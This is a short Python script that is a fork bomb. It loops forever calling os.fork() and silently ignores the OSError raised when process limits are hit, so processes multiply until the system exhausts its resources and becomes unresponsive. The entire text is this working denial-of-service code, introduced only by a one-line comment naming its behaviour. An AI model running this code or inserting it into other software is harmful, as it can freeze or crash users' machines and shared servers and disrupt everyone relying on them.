# Forks without end, ignoring failures.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
